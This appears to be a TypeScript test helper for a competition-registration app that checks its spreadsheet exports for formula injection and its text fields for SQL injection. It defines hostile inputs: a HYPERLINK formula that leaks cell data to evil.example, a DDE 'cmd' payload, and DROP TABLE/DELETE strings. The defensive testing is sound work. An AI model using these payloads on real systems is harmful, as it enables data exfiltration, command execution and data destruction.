import ExcelJS from 'exceljs';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import type { Response } from 'superagent';
import type TestAgent from 'supertest/lib/agent';
import { femaleId, maleId } from '../../factories/id-numbers';
import { register, setStatus } from '../../factories/registration-api';
import { SetupApi } from '../../factories/setup-api';
import { computeAndPublishRun } from '../../factories/published-contest';

/** Cells a spreadsheet program would read as a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** Texts that start like formulas, as they are entered through the API. */
export const FORMULA_TEXT = {
  competition: '=HYPERLINK("http://evil.example/?leak="&A3,"大赛")',
  unit: "@SUM(1+1)*cmd|' /C calc'!A0",
  unitCode: '-FZ1',
  part: '+实操',
  workers: ['-王伟', '-李娜', '-张敏'],
  rejectReason: '=1+1',
  rejectReasonTab: '\t=2+2',
};

/** Trade names a worksheet cannot be called as they are. */
export const AWKWARD_TRADES = ['单位汇总', "'焊工/电焊:[高级]*?'"];

export const SQL_TEXT = {
  unit: "Robert'); DROP TABLE registrations;--",
  reason: "' OR 1=1; DELETE FROM units; --",
  objection: "'; DELETE FROM objections; SELECT '申诉",
  search: "' OR '1'='1",
};

const binary = (res: Response, done: (e: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

/** GET a file (an .xlsx export) as bytes. */
export async function download(http: TestAgent, path: string, auth: string): Promise<Buffer> {
  const res = await http.get(path).set('authorization', auth).buffer(true).parse(binary);
  if (res.status !== 200) throw new Error(`GET ${path} → ${res.status}`);
  return res.body as Buffer;
}

export interface SheetReport {
  sheets: string[];
  texts: string[];
  /** `sheet!A1: text` of every text cell that starts like a formula. */
  unsafe: string[];
  /** Worksheet names Excel would call damaged. */
  badSheetNames: string[];
}

/** Reads a workbook back and checks every text cell and every sheet's name. */
export async function inspectWorkbook(file: Buffer): Promise<SheetReport> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const report: SheetReport = { sheets: [], texts: [], unsafe: [], badSheetNames: [] };
  const seen = new Set<string>();
  workbook.eachSheet((sheet) => {
    report.sheets.push(sheet.name);
    const lower = sheet.name.toLowerCase();
    if (
      /[*?:/\\[\]]/.test(sheet.name) ||
      /^'|'$/.test(sheet.name) ||
      [...sheet.name].length > 31 ||
      sheet.name === '' ||
      seen.has(lower)
    ) {
      report.badSheetNames.push(sheet.name);
    }
    seen.add(lower);
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        const text =
          typeof v === 'string'
            ? v
            : v && typeof v === 'object' && 'richText' in v
              ? v.richText.map((r) => r.text).join('')
              : v && typeof v === 'object' && 'formula' in v
                ? `=${String(v.formula)}`
                : null;
        if (text === null) return;
        report.texts.push(text);
        if (FORMULA_START.test(text)) report.unsafe.push(`${sheet.name}!${cell.address}: ${text}`);
      });
    });
  });
  return report;
}

/** Source files under src/ that write spreadsheets or CSV: each must be covered by the test. */
export function spreadsheetWriters(root: string): string[] {
  const walk = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
      e.isDirectory()
        ? walk(join(dir, e.name))
        : e.name.endsWith('.ts') && !e.name.endsWith('.spec.ts')
          ? [join(dir, e.name)]
          : [],
    );
  return walk(join(root, 'src'))
    .filter((path) =>
      /WorkbookWriter|new ExcelJS\.Workbook\(|xlsx\.write(Buffer|File)?\(|csv-stringify|text\/csv/.test(
        readFileSync(path, 'utf8'),
      ),
    )
    .map((path) => relative(root, path))
    .sort();
}

export interface InjectedContest {
  competitionId: number;
  contestIds: number[];
  rejectedIds: number[];
  unitIds: { formula: number; sql: number };
}

/**
 * A competition whose every free-text field starts like a formula (and one unit named like SQL),
 * run through registration, a rejection with a reason, scoring and publication, two contests
 * (trades named 单位汇总 and '焊工/电焊:[高级]*?').
 */
export async function injectedCompetition(
  http: TestAgent,
  organizer: string,
  login: (u: string, p: string) => Promise<string>,
): Promise<InjectedContest> {
  const setup = new SetupApi(http, organizer);
  const formulaUnit = await setup.unit(FORMULA_TEXT.unitCode, FORMULA_TEXT.unit);
  const sqlUnit = await setup.unit('FZSQL', SQL_TEXT.unit);
  const competitionId = (await setup.competition('FZ2030', FORMULA_TEXT.competition, 2030)).id;
  await setup.user('fzjudge', 'JUDGE');
  await setup.user('fzchief', 'JUDGE');
  const users = (await http.get('/api/users').set('authorization', organizer)).body as Array<{
    id: number;
    username: string;
  }>;
  const userId = (name: string) => users.find((u) => u.username === name)!.id;
  const judge = await login('fzjudge', 'fzjudge-password');
  const chief = await login('fzchief', 'fzchief-password');
  const contestIds: number[] = [];
  const rejectedIds: number[] = [];
  for (const [t, tradeName] of AWKWARD_TRADES.entries()) {
    const trade = await http
      .post('/api/trades')
      .set('authorization', organizer)
      .send({ code: `FZT${t}`, name: tradeName });
    if (trade.status !== 201)
      throw new Error(`trade → ${trade.status} ${JSON.stringify(trade.body)}`);
    const contestId = (
      await setup.contest(competitionId, {
        tradeId: (trade.body as { id: number }).id,
        scheme: {
          parts: [
            {
              key: 'practical',
              name: FORMULA_TEXT.part,
              weight: 100,
              criteria: [
                {
                  key: 'task',
                  name: '=任务',
                  maxPoints: 100,
                  kind: 'MEASUREMENT',
                  method: 'SINGLE',
                },
              ],
            },
          ],
        },
      })
    ).id;
    contestIds.push(contestId);
    await setStatus(http, organizer, contestId, 'REGISTRATION');
    for (const [i, name] of FORMULA_TEXT.workers.entries()) {
      const n = 200 + t * 10 + i;
      await register(http, organizer, contestId, {
        name,
        idNumber: i % 2 ? femaleId(n) : maleId(n),
        unitId: formulaUnit.id,
        phone: '13800138000',
      });
    }
    for (const [i, reason] of [
      FORMULA_TEXT.rejectReason,
      FORMULA_TEXT.rejectReasonTab,
      SQL_TEXT.reason,
    ].entries()) {
      const r = await register(http, organizer, contestId, {
        name: `-赵${'一二三'[i]}`,
        idNumber: maleId(250 + t * 10 + i),
        unitId: sqlUnit.id,
      });
      const rejected = await http
        .patch(`/api/registrations/${r.id}`)
        .set('authorization', organizer)
        .send({ status: 'REJECTED', reason });
      if (rejected.status !== 200)
        throw new Error(`reject → ${rejected.status} ${JSON.stringify(rejected.body)}`);
      rejectedIds.push(r.id);
    }
    for (const [username, chiefFlag] of [
      ['fzjudge', false],
      ['fzchief', true],
    ] as const) {
      await http
        .post(`/api/contests/${contestId}/judges`)
        .set('authorization', organizer)
        .send({ userId: userId(username), chief: chiefFlag });
    }
    await setStatus(http, organizer, contestId, 'SCORING');
    await http
      .post(`/api/contests/${contestId}/registrations/decisions`)
      .set('authorization', organizer)
      .send({ status: 'APPROVED', allPending: true });
    await http.post(`/api/contests/${contestId}/draw`).set('authorization', organizer).send({});
    const rows = (
      await http
        .get(`/api/contests/${contestId}/registrations?status=APPROVED`)
        .set('authorization', organizer)
    ).body as Array<{ code: string }>;
    const scored = await http
      .put(`/api/contests/${contestId}/scores`)
      .set('authorization', judge)
      .send({
        entries: rows.map((r, i) => ({ code: r.code, criterionKey: 'task', points: 90 - i * 5 })),
      });
    if (scored.status !== 200)
      throw new Error(`scores → ${scored.status} ${JSON.stringify(scored.body)}`);
    await http
      .post(`/api/contests/${contestId}/scores/confirm`)
      .set('authorization', chief)
      .send({});
    await setStatus(http, organizer, contestId, 'REVIEW');
    await computeAndPublishRun(http, organizer, contestId, 20000);
  }
  return {
    competitionId,
    contestIds,
    rejectedIds,
    unitIds: { formula: formulaUnit.id, sql: sqlUnit.id },
  };
}
